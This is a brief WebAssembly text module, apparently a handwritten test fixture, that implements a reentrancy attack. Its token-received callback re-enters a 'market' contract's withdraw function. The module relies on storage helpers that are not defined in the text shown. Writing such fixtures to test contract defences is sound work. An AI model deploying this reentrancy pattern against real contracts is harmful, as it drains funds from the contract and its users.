;; The attack by hand.

(module $attacker
  (import "contract:market" "withdraw" (func $market.withdraw (param i64)))
  ;; @storage
  (memory $memory (export "memory") 1)

  (func $main (export "main"))

  (func $arm (export "arm") (param $amount i64)
    (call $store_i64 (i32.const 8) (local.get $amount)))

  (func $tokens_to_send (export "tokens_to_send") (param $src i64) (param $amount i64)
    (local $n i64)
    (if (i64.gt_s (call $load_i64 (i32.const 8)) (i64.const 0))
      (then
        (local.set $n (call $load_i64 (i32.const 8)))
        (call $store_i64 (i32.const 8) (i64.const 0))
        (call $market.withdraw (local.get $n))))))
